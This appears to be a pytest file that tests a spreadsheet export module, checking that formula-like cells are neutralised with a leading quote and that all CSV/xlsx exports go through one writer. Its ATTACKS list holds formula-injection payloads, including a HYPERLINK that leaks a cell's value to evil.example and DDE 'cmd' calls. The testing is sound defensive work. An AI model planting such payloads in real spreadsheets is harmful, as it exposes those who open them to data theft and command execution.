"""The one CSV / Excel writer (core.spreadsheets): formulas neutralised, numbers kept, and no export in the
code base that writes CSV or xlsx any other way."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Sheet, csv_bytes, safe_cell, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_be_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [12, -12, 3.5, Decimal("-12.50"), "-12.50", "+86", "1101**********002X", "外墙砌筑", True,
              dt.date(2026, 12, 1)],
)  # fmt: skip
def test_numbers_dates_and_ordinary_text_are_kept(value):
    assert safe_cell(value) == value


def test_csv_cells_are_neutralised_and_readable():
    data = csv_bytes([["title", "n"], [ATTACKS[0], 3], ["=1+1", -5]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["title", "n"], ["'" + ATTACKS[0], "3"], ["'=1+1", "-5"]]


def test_xlsx_text_is_never_a_formula():
    data = xlsx_bytes(
        [Sheet(title="岗位", rows=[["标题", "人数"], [ATTACKS[0], 3], ["=1+1", -5]], header=True)]
    )
    sheet = load_workbook(io.BytesIO(data))["岗位"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A2"].value == "'" + ATTACKS[0] and sheet["B2"].value == 3 and sheet["B3"].value == -5


def test_every_export_goes_through_the_one_writer():
    """No module but core/spreadsheets.py builds CSV or xlsx itself (csv.writer, DictWriter, Workbook)."""
    offenders = []
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|text/csv")
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if (
            relative.parts[0] in {"tests", "bench", "node_modules"}
            or relative.parts[0].startswith(".")
            or "migrations" in relative.parts
        ):
            continue
        if relative == Path("core/spreadsheets.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if pattern.search(text):
            offenders.append(str(relative))
    assert offenders == []
